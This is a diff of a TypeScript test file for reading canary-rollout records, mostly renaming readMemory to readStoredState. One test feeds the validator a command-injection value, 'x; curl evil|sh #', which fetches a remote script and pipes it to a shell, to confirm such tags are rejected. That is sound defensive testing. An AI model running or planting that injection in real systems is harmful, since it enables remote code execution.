@@ -3,7 +3,7 @@ import {
   canaryTag,
   pauseTag,
   type RolloutRecord,
-  readMemory,
+  readStoredState,
   recordTags,
 } from '../../src/rollout/record.ts';
 import { sealText } from '../../src/rollout/record-text.ts';
@@ -62,7 +62,7 @@ function withMember(record: RolloutRecord, path: Path, value: unknown): RolloutR
 
 /** With a good checksum, as whoever may write tags can make one. */
 const read = (record: RolloutRecord) =>
-  readMemory({
+  readStoredState({
     'canary-action:phase': 'preparing',
     'canary-action:record.1-1': sealText(JSON.stringify({ v: 1, ...record })),
   });
@@ -77,7 +77,7 @@ const OPTIONAL =
 describe('A record', () => {
   it('of a stage and of an alias is read as it was written', () => {
     for (const record of [OF_STAGE, OF_ALIAS]) {
-      expect(read(record)).toMatchObject({ kind: 'rollout', remembered: { record } });
+      expect(read(record)).toMatchObject({ kind: 'rollout', storedRollout: { record } });
     }
   });
 
@@ -132,13 +132,13 @@ describe('A record', () => {
   it('is unreadable where the deployment of its canary, or its pause, is none', () => {
     const tags = recordTags(OF_STAGE, { kind: 'preparing' });
     const pause = pauseTag({ since: STARTED_AT, by: OF_STAGE.id });
-    expect(readMemory({ ...tags, ...canaryTag('new222'), ...pause }).kind).toBe('rollout');
+    expect(readStoredState({ ...tags, ...canaryTag('new222'), ...pause }).kind).toBe('rollout');
     for (const strange of [
       canaryTag('x; curl evil|sh #'),
       canaryTag(''),
       { 'canary-action:paused': 'yes' },
     ]) {
-      expect(readMemory({ ...tags, ...strange }).kind).toBe('unreadable');
+      expect(readStoredState({ ...tags, ...strange }).kind).toBe('unreadable');
     }
   });
 });
